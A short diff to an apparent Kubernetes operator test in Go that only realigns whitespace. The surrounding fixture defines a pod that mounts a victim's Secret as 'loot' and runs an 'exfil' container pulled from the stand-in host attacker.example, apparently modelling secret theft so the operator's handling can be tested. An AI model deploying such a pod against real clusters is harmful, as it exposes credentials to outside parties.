@@ -532,7 +532,7 @@ var _ = Describe("the operator loop", func() {
 					Spec: corev1.PodSpec{
 						AutomountServiceAccountToken: ptr.To(false),
 						SecurityContext:              &corev1.PodSecurityContext{RunAsNonRoot: ptr.To(true)},
-						Volumes: []corev1.Volume{{Name: "loot", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: victim.Name}}}},
+						Volumes:                      []corev1.Volume{{Name: "loot", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: victim.Name}}}},
 						Containers: []corev1.Container{{Name: "exfil", Image: "attacker.example/exfil:1", SecurityContext: &corev1.SecurityContext{
 							AllowPrivilegeEscalation: ptr.To(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
 						}}},
